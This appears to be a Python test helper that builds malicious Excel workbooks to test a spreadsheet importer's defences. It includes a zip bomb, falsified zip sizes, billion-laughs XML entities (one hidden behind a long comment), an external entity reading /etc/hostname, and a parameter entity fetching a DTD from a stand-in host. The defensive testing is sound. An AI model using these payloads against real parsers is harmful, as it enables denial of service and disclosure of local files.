"""A generator of hostile workbooks, built at test time (no binary fixtures).

Every maker starts from a small valid standard workbook (``base_xlsx``, the commune of the interchange tests) and
changes one thing: a part that unpacks a thousand times its packed size, a directory that lies about sizes, ten
thousand parts, XML entities (billion laughs, external, parameter), XML cut in the middle, a cell claimed in the
last row and column, integers past 2⁶³ or of 5,000 digits, formulas, text longer than a cell, numbers that mean
nothing (nan, inf, 1e300) and codes made only of invisible characters.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl

from hoagiai_desktop.interchange.schema import SHEETS, standard_columns
from tests.interchange.conftest import sample_rows

HEADERS = {s.name: [c.header for c in standard_columns(s)] for s in SHEETS}
SHEET_ORDER = list(HEADERS)  # openpyxl writes sheet n as xl/worksheets/sheet{n}.xml


def base_xlsx(rows: dict[str, list[list[Any]]] | None = None) -> bytes:
    """The small valid commune workbook (imports cleanly into any data file that lacks its codes)."""
    data = sample_rows() if rows is None else rows
    wb = openpyxl.Workbook()
    first = wb.active
    assert first is not None
    wb.remove(first)
    for name, headers in HEADERS.items():
        ws = wb.create_sheet(name)
        ws.append(headers)
        for row in data.get(name, []):
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def with_rows(change: Callable[[dict[str, list[list[Any]]]], None]) -> bytes:
    """The base workbook after ``change`` edited its rows (sheet name → rows)."""
    rows = sample_rows()
    change(rows)
    return base_xlsx(rows)


def sheet_part(sheet: str) -> str:
    return f"xl/worksheets/sheet{SHEET_ORDER.index(sheet) + 1}.xml"


def replace_parts(xlsx: bytes, parts: dict[str, bytes], *, level: int = 6) -> bytes:
    """The workbook with the given parts replaced (or added), every part deflated."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, parts.get(info.filename, src.read(info.filename)))
        for name, data in parts.items():
            if name not in src.namelist():
                dst.writestr(name, data)
    return out.getvalue()


def part(xlsx: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return zf.read(name)


def _cell_xml(ref: str, value: str, *, number: bool = False) -> str:
    if number:
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def _sheet_xml(body: str, *, prolog: str = "", dimension: str = "A1:P2") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{body}</sheetData></worksheet>'
    ).encode()


def _village_rows(cells: str) -> str:
    """The ThonTo header row and one data row whose cells are ``cells`` (XML)."""
    header = "".join(_cell_xml(f"{chr(65 + i)}1", h) for i, h in enumerate(HEADERS["ThonTo"]))
    return f'<row r="1">{header}</row><row r="2">{cells}</row>'


# ---- packing ------------------------------------------------------------------------------------------------------


def ratio_bomb(unpacked_mb: int = 48) -> bytes:
    """ThonTo unpacks to ``unpacked_mb`` MB of blank space from about a thousandth of that (a "zip bomb").

    Written a megabyte at a time, so making it costs no memory either."""
    xlsx = base_xlsx()
    target = sheet_part("ThonTo")
    head, tail = _sheet_xml(_village_rows(_cell_xml("A2", "T09") + _cell_xml("B2", "Thôn Bom")) + "@@").split(
        b"@@"
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for info in src.infolist():
            if info.filename != target:
                dst.writestr(info.filename, src.read(info.filename))
                continue
            with dst.open(target, "w", force_zip64=True) as fh:
                fh.write(head)
                block = b" " * (1024 * 1024)
                for _ in range(unpacked_mb):
                    fh.write(block)
                fh.write(tail)
    return out.getvalue()


def lying_sizes(xlsx: bytes, name: str, declared: int) -> bytes:
    """``xlsx`` whose zip directory declares ``declared`` bytes unpacked for the part ``name``."""
    data = bytearray(xlsx)
    encoded = name.encode()
    for signature, size_at, name_at in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            length = struct.unpack("<H", data[at + name_at - 18 : at + name_at - 16])[0]
            if bytes(data[at + name_at : at + name_at + length]) == encoded:
                data[at + size_at : at + size_at + 4] = struct.pack("<I", declared)
            start = at + 4
    return bytes(data)


def many_parts(n: int) -> bytes:
    """The base workbook plus ``n`` tiny extra parts."""
    extra = {f"xl/media/extra{i}.bin": b"x" for i in range(n)}
    return replace_parts(base_xlsx(), extra, level=1)


# ---- XML ----------------------------------------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def billion_laughs(*, hide_after: int = 0) -> bytes:
    """A cell whose text is the entity &lol9; (10⁹ "lol"); ``hide_after`` bytes of comment before the DOCTYPE
    put it past the first-bytes check, so only the XML parser (defusedxml) stands in the way."""
    prolog = ("<!--" + "x" * hide_after + "-->" if hide_after else "") + LAUGHS
    body = _village_rows(_cell_xml("A2", "T09") + _cell_xml("B2", "&lol9;"))
    return replace_parts(base_xlsx(), {sheet_part("ThonTo"): _sheet_xml(body, prolog=prolog)})


def external_entity(target: str = "file:///etc/hostname") -> bytes:
    prolog = f'<!DOCTYPE worksheet [<!ENTITY ext SYSTEM "{target}">]>'
    body = _village_rows(_cell_xml("A2", "T09") + _cell_xml("B2", "&ext;"))
    return replace_parts(base_xlsx(), {sheet_part("ThonTo"): _sheet_xml(body, prolog=prolog)})


def parameter_entity() -> bytes:
    prolog = '<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "http://example.invalid/evil.dtd"> %p;]>'
    body = _village_rows(_cell_xml("A2", "T09") + _cell_xml("B2", "Thôn"))
    return replace_parts(base_xlsx(), {sheet_part("ThonTo"): _sheet_xml(body, prolog=prolog)})


def laughs_in(name: str) -> bytes:
    """The entities declared in another part (``xl/workbook.xml``, ``xl/styles.xml``), which openpyxl parses
    when it opens the workbook, before any sheet."""
    xlsx = base_xlsx()
    xml = part(xlsx, name).decode()
    root = xml.index("<", xml.index("?>") + 2) if xml.startswith("<?xml") else 0
    return replace_parts(xlsx, {name: (xml[:root] + LAUGHS + xml[root:]).encode()})


def broken_sheet() -> bytes:
    """The ThonTo part cut in the middle of a tag (the zip itself is sound)."""
    xml = part(base_xlsx(), sheet_part("ThonTo"))
    return replace_parts(base_xlsx(), {sheet_part("ThonTo"): xml[: len(xml) // 2]})


def broken_workbook_part() -> bytes:
    xml = part(base_xlsx(), "xl/workbook.xml")
    return replace_parts(base_xlsx(), {"xl/workbook.xml": xml.replace(b"</sheets>", b"</sheets", 1)})


def truncated_file() -> bytes:
    data = base_xlsx()
    return data[: len(data) * 2 // 3]


def far_cell() -> bytes:
    """A cell claimed in the last row and column (XFD1048576): a naive reader fills the gap with empty cells."""
    body = _village_rows(_cell_xml("A2", "T09") + _cell_xml("B2", "Thôn Xa"))
    body += f'<row r="1048576">{_cell_xml("XFD1048576", "x")}</row>'
    return replace_parts(base_xlsx(), {sheet_part("ThonTo"): _sheet_xml(body, dimension="A1:XFD1048576")})


# ---- values -------------------------------------------------------------------------------------------------------


def number_cells(values: dict[str, str]) -> bytes:
    """A ThonTo row whose cells (column letter → raw XML number text) are written as number cells, e.g. an
    integer of 30 digits in Số hộ (E), which no spreadsheet program would write but a script can."""
    cells = _cell_xml("A2", "T09") + _cell_xml("B2", "Thôn Số")
    cells += "".join(_cell_xml(f"{col}2", text, number=True) for col, text in values.items())
    return replace_parts(base_xlsx(), {sheet_part("ThonTo"): _sheet_xml(_village_rows(cells))})


def formula_cells() -> bytes:
    """Formulas with no cached result where the importer needs text, and one with a cached result."""
    cells = (
        '<c r="A2" t="str"><f>"T"&amp;"09"</f></c>'
        '<c r="B2" t="str"><f>HYPERLINK("http://example.invalid","Thôn")</f><v>Thôn Mạo</v></c>'
    )
    return replace_parts(base_xlsx(), {sheet_part("ThonTo"): _sheet_xml(_village_rows(cells))})


def raw_cell(sheet: str, ref: str, cell_xml: str, xlsx: bytes | None = None) -> bytes:
    """The base workbook with the cell ``ref`` of ``sheet`` replaced by ``cell_xml`` as written (what a script,
    not a spreadsheet program, can put there: openpyxl itself cuts text at 32,767 characters when writing)."""
    xlsx = base_xlsx() if xlsx is None else xlsx
    name = sheet_part(sheet)
    xml = part(xlsx, name).decode()
    start = xml.index(f'<c r="{ref}"')
    end = xml.index("</c>", start) + len("</c>")
    return replace_parts(xlsx, {name: (xml[:start] + cell_xml + xml[end:]).encode()})


def long_text(sheet: str, ref: str, length: int) -> bytes:
    """A cell of ``length`` characters of Vietnamese text (past a cell's 32,767 when asked)."""
    text = ("Thôn dài " * (length // 9 + 1))[:length].strip() + "x"
    return raw_cell(sheet, ref, f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>')


INVISIBLE = {
    "zero-width spaces": "\u200b\u200b\u200b",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "zero-width joiners": "\u200d\u200c",
    "no-break space": "\u00a0\u00a0",
    "left-to-right marks": "\u200e\u200f",
}
